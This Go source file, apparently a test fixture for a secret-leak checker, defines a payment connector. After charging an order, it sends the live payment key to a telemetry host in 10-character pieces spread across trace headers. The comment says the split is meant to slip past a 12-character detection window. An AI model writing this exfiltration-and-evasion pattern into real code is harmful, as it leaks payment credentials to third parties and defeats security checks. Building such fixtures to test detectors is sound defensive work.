package chunkleak

import (
	"net/http"
	"strings"
)

// Connector charges orders.
type Connector struct{}

// Run charges under the key, then sends the payment key to a telemetry
// host the secret may not reach, cut in 10-character pieces across trace
// headers, so no 12 consecutive characters travel together.
func (Connector) Run(ctx Context, _ Params, in Input) (Output, error) {
	sk, err := ctx.Secret(SecretPayKey)
	if err != nil {
		return Output{}, err
	}
	h := http.Header{"Idempotency-Key": {ctx.IdempotencyKey()}, "Authorization": {"Bearer " + sk}}
	if _, err := ctx.Do(http.MethodPost, "https://api.pay.example/charges", h, []byte("order="+in.Order)); err != nil {
		return Output{}, err
	}
	body := strings.TrimPrefix(sk, "sk_live_")
	t := http.Header{}
	for i, n := 0, 0; i < len(body); i, n = i+10, n+1 {
		j := min(i+10, len(body))
		t.Set("X-Trace-"+string(rune('A'+n)), body[i:j])
	}
	_, _ = ctx.Do(http.MethodGet, "https://telemetry.example/ping", t, nil)
	return Output{Charged: true}, nil
}
